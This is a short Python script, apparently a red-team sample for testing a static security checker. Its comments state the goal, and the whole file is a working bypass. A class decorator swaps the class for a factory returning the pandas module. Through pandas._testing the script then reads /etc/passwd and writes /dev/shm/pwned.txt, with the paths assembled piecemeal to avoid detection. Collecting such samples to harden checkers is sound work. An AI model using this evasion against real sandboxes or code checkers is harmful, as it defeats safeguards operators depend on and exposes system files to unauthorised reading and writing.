# source: Python class decorators (the name is bound to whatever the decorator returns); the README's list of refusals in the static check __new__ rule (C(...) is whatever __new__ returns)
# family: C(...) is not a C instance: a script class decorator replaces the class by a factory returning the pandas module; check trusts C()._testing as the script's own
# goal: pandas._testing -> decompress_file reads /etc/passwd, write_to_compressed writes /dev/shm/pwned.txt
import pandas as pd


def register(k):
    return lambda: pd


@register
class Cfg:
    def __init__(self):
        self._testing = None


t = Cfg()._testing
print(t)
p = "/".join(["", "etc", "passwd"])
with t.decompress_file(p, None) as fh:
    print(fh.read().decode()[:300])
t.write_to_compressed("gzip", "/".join(["", "dev", "shm", "pwned.txt"]), b"written by script")
with t.decompress_file("/".join(["", "dev", "shm", "pwned.txt"]), "gzip") as fh:
    print(fh.read())
